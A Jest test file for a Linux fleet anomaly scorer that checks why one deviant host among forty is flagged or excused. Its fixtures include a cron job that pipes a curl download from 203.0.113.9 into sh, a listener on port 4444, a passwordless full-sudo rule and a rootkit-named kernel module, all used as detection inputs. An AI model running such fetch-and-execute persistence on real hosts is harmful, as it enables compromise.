import { describe, expect, test } from '@jest/globals'
import { clusterFleet } from '../../src/analyze/cluster/clusters.ts'
import { clusteredFleet } from '../../src/analyze/clustered-fleet.ts'
import { findDeviations } from '../../src/analyze/deviate/deviations.ts'
import { scoreRows } from '../../src/analyze/score/row-bits.ts'
import { fleetBuilder } from '../../src/normalize/fleet.ts'
import { builtinPack } from '../../src/osquery/builtin-packs.ts'
import type { Row } from '../../src/snapshot/snapshot.ts'
import { host, hostId } from '../support/fleets.ts'

const QUERIES = builtinPack('linux')!.queries
const HOSTS = 40
const ODD = 3

/** What all hosts have. */
const COMMON: Readonly<Record<string, readonly Row[]>> = {
  programs: [{ path: '/usr/sbin/sshd', username: 'root' }],
  listening_ports: [{ protocol: '6', address: '*', port: '22', path: '/usr/sbin/sshd' }],
  security_controls: [{ id: 'auditd.service', state: 'running' }],
  core_programs: [{ path: '/usr/sbin/sshd', version: '9.2', sha256: 'aa' }],
  users: [{ username: 'root', shell: '/bin/bash' }],
  systemd_units: [
    {
      id: 'ssh.service',
      fragment_path: '/usr/lib/systemd/system/ssh.service',
      unit_file_state: 'enabled',
      user: ''
    }
  ]
}

/**
 * The reasons of one host's rows, with whether they accuse it (+) or excuse it (−).
 * @param more what all hosts have besides
 */
function reasonsOf(
  change: (rows: Record<string, Row[]>) => void,
  more: Readonly<Record<string, readonly Row[]>> = {}
): string[] {
  const builder = fleetBuilder(QUERIES)
  for (let index = 0; index < HOSTS; index++) {
    const rows: Record<string, Row[]> = Object.fromEntries(
      QUERIES.map(({ name }) => [name, [...(COMMON[name] ?? []), ...(more[name] ?? [])]])
    )
    if (index === ODD) change(rows)
    builder.add(host(hostId(index), rows))
  }
  const fleet = builder.finish()
  const clusters = clusterFleet(fleet)
  const clustered = clusteredFleet(fleet, clusters)
  const { deviations } = findDeviations(fleet, clusters, clustered.inFleet, () => null)
  return scoreRows(clustered, deviations).flatMap(({ reasons }) =>
    reasons.map(([reason, bits]) => `${bits > 0 ? '+' : '−'} ${reason}`)
  )
}

const SERVER = { username: 'www-data', parent_path: '/usr/sbin/nginx' }

test.each<[string, string, Row, string[]]>([
  ['a program in /tmp', 'programs', { path: '/tmp/x', username: 'app' }, ['+ writable-folder']],
  [
    'a program in a hidden folder',
    'programs',
    { path: '/usr/lib/.x/x', username: 'app' },
    ['+ hidden-folder']
  ],
  ["a program in root's home", 'programs', { path: '/root/x', username: 'root' }, ['+ home-of-root']],
  ["a program in a person's home", 'programs', { path: '/home/a/x', username: 'a' }, ['− home']],
  [
    "root's program outside of packages",
    'programs',
    { path: '/opt/x/x', username: 'root' },
    ['+ outside-packages']
  ],
  [
    'a program of a package, run by a service',
    'programs',
    { path: '/usr/bin/x', username: 'app' },
    ['− package-program']
  ],
  [
    'a job that downloads',
    'crontab',
    { path: '/etc/cron.d/x', command: 'root curl -s http://203.0.113.9/x | sh' },
    ['+ reaches-out']
  ],
  [
    'a job that runs a program of a package',
    'crontab',
    { path: '/etc/cron.d/x', command: 'root /usr/lib/x/x' },
    ['− package-job']
  ],
  [
    'a shell of a server',
    'service_shells',
    { path: '/usr/bin/dash', ...SERVER, reach: '' },
    ['+ shell-of-server']
  ],
  [
    'a shell with a connection to a public address',
    'shell_connections',
    { path: '/usr/bin/bash', username: 'app', peer: 'public' },
    ['+ shell-connection', '+ public-peer']
  ],
  [
    'a port on which a process without a file listens',
    'listening_ports',
    { protocol: '6', address: '*', port: '4444', path: '' },
    ['+ hidden-process']
  ],
  [
    'a port that is open to others',
    'listening_ports',
    { protocol: '6', address: '*', port: '4444', path: '/usr/bin/x' },
    ['+ open-port']
  ],
  [
    'a port of the host alone',
    'listening_ports',
    { protocol: '6', address: '127.0.0.1', port: '4444', path: '/usr/bin/x' },
    ['− loopback-port']
  ],
  [
    'a process that poses as a thread of the kernel',
    'kernel_thread_impostors',
    { name: '[kworker/0:1]', path: '/usr/lib/x', username: 'root' },
    ['+ impostor']
  ],
  [
    'a packet socket of a sniffer',
    'packet_sockets',
    { path: '/usr/sbin/tcpdump', family: '17', protocol: '768' },
    ['+ dual-use']
  ],
  [
    'a packet socket of some other program',
    'packet_sockets',
    { path: '/usr/sbin/reader', family: '17', protocol: '768' },
    ['+ raw-socket']
  ],
  [
    'a file with other content in the same version',
    'core_programs',
    { path: '/usr/sbin/sshd', version: '9.2', sha256: 'ff' },
    ['+ content-differs']
  ],
  ['an account that can log in', 'users', { username: 'eve', shell: '/bin/bash' }, ['+ login-shell']],
  ['an account that cannot', 'users', { username: 'svc', shell: '/usr/sbin/nologin' }, ['− no-login']],
  [
    'an empty password',
    'passwords',
    { username: 'eve', password_status: 'empty', hash_alg: '' },
    ['+ empty-password']
  ],
  ['a member of an admin group', 'admin_groups', { groupname: 'sudo', username: 'eve' }, ['+ admin-group']],
  [
    'a rule of sudo that allows everything',
    'sudoers',
    { header: 'eve', rule_details: 'ALL=(ALL) NOPASSWD: ALL' },
    ['+ full-power']
  ],
  [
    'a rule of sudo for one program',
    'sudoers',
    { header: 'eve', rule_details: 'ALL=(root) /usr/bin/systemctl' },
    ['+ restricted-power']
  ],
  ['a mount that hides a process', 'proc_mounts', { path: '/proc/4242', type: 'ext4' }, ['+ over-proc']],
  ['a kernel module of an unknown family', 'kernel_modules', { name: 'diamorphine' }, ['+ restricted-power']]
])('%s says why it is more, or less, than rare', (_, query, row, wanted) => {
  const reasons = reasonsOf(rows => {
    const others = (rows[query] ?? []).filter(({ path }) => query !== 'core_programs' || path !== row.path)
    rows[query] = [...others, row]
  })
  expect(reasons.filter(reason => wanted.includes(reason)).sort()).toEqual([...wanted].sort())
  expect(reasons.filter(reason => reason.startsWith('+') !== wanted[0]?.startsWith('+'))).toEqual([])
})

test('a protection that is gone accuses its host', () => {
  expect(
    reasonsOf(rows => {
      rows.security_controls = []
    })
  ).toEqual(['+ control'])
})

test('a program that the host talks to a public address with says so, by a row that only informs', () => {
  const program = { path: '/opt/x/x', username: 'app' }
  const alone = reasonsOf(rows => rows.programs?.push(program))
  const talking = reasonsOf(rows => {
    rows.programs?.push(program)
    rows.outbound?.push({ path: '/opt/x/x', protocol: '6', remote_port: '443', peer: 'public' })
  })
  expect(alone).not.toContain('+ public-peer')
  expect(talking).toContain('+ public-peer')
})

describe('whose a file is, by the database of packages', () => {
  const PROGRAM = { path: '/opt/x/x', username: 'root' }
  const HOOK = { path: '/etc/apt/apt.conf.d/50x', sha256: 'bb' }
  const UNOWNED = { path: '/usr/bin/x', username: 'app' }

  test.each<[string, string, Row, string, string[]]>([
    ['a program outside of package folders', 'programs', PROGRAM, 'x', ['− of-package']],
    ['a hook', 'system_hooks', HOOK, 'x', ['− of-package']],
    ['a program of no package in one of their folders', 'programs', UNOWNED, 'none', ['+ of-no-package']],
    [
      'a setuid program of no package in one of their folders',
      'setuid_files',
      { path: '/usr/bin/x', username: 'root', groupname: 'root', permissions: 'S' },
      'none',
      ['+ full-power']
    ]
  ])('%s', (_, query, row, owner, wanted) => {
    const reasons = reasonsOf(rows => {
      rows[query]?.push(row)
      rows.deb_owners?.push({ path: row.path!, package: owner })
      rows.packages?.push({ name: 'x' })
    })
    expect(reasons).toEqual(wanted)
  })

  test('does not excuse a hook that other hosts with the package do not have', () => {
    const claim = { path: HOOK.path, package: 'coreutils' }
    const reasons = reasonsOf(
      rows => {
        rows.system_hooks?.push(HOOK)
        rows.deb_owners?.push(claim)
      },
      { packages: [{ name: 'coreutils' }] }
    )
    expect(reasons).toEqual([])
  })

  test('does not excuse a file of a package that changed', () => {
    const owner = { path: HOOK.path, package: 'apt' }
    const reasons = reasonsOf(
      rows => {
        rows.system_hooks = [{ ...HOOK, sha256: 'ff' }]
      },
      { system_hooks: [HOOK], deb_owners: [owner], packages: [{ name: 'apt' }] }
    )
    expect(reasons).not.toContain('− of-package')
  })

  test('does not excuse the command of a job', () => {
    const job = { path: '/etc/cron.d/x', command: 'root /opt/x/x' }
    const reasons = reasonsOf(rows => {
      rows.crontab?.push(job)
      rows.deb_owners?.push({ path: job.path, package: 'x' })
      rows.packages?.push({ name: 'x' })
    })
    expect(reasons).toEqual(['+ outside-packages'])
  })

  test('is no connection of a program', () => {
    const reasons = reasonsOf(rows => {
      rows.programs?.push(UNOWNED)
      rows.deb_owners?.push({ path: UNOWNED.path, package: 'none' })
    })
    expect(reasons).not.toContain('+ connected')
  })
})

test('a program that is not what its package brought accuses its host', () => {
  expect(reasonsOf(rows => rows.changed_package_files?.push({ path: '/usr/bin/ps', sha256: 'ff' }))).toEqual([
    '+ differs-from-package',
    '+ restricted-power'
  ])
})
